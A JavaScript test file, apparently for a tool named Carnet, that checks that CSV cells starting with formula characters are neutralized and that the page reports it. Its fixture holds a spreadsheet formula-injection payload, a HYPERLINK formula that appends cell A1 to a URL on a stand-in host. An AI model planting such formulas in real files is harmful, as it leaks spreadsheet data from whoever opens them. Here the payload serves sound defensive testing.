// What Carnet writes is safe to open: a text cell a spreadsheet would run as a formula is
// neutralized in the clean CSV and in the published ZIP, and the page says so.
import { test } from "node:test";
import assert from "node:assert/strict";
import { CarnetPage } from "./carnet-page.mjs";
import { assertClean, useApp } from "./harness.mjs";

const app = useApp();

/** A commune file re-saved by a person, whose text cells start with formula characters. */
const formulas = {
  name: "associations_2024.csv",
  mimeType: "text/csv",
  buffer: Buffer.from(
    "CODGEO;NOM_ASSOCIATION;SOLDE\n" +
      "59522;\"=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\";-3,5\n" +
      "59522;@SUM(1+1);12\n" +
      "59332;Club de Lannoy;4\n",
  ),
};

test("formula cells are neutralized in the clean CSV, numbers keep their sign, the page says it", async () => {
  const carnet = await CarnetPage.open(app.browser, app.url);
  const page = carnet.page;
  await carnet.pickCommune("sailly lez", /Sailly-lez-Lannoy \(59522\)/);
  await carnet.upload(formulas);
  await page.getByRole("button", { name: "Télécharger le CSV nettoyé" }).waitFor({ timeout: 60_000 });
  const notice = await page.locator(".neutralized").innerText();
  assert.match(notice, /^2 cellules commençaient par « = », « \+ », « - » ou « @ » : Carnet les a neutralisées pour les tableurs/);
  assert.match(notice, /colonne « NOM_ASSOCIATION »/);
  const csv = (await carnet.download("Télécharger le CSV nettoyé")).text.trimEnd().split("\n");
  assert.deepEqual(csv, [
    "CODGEO,NOM_ASSOCIATION,SOLDE",
    "59522,\"'=HYPERLINK(\"\"http://exemple.invalid/?\"\"&A1;\"\"Voir\"\")\",-3.5",
    "59522,'@SUM(1+1),12",
  ]);
  await carnet.screenshot("97-formules-neutralisees", ".selection");
  assertClean(carnet);
  await page.context().close();
});
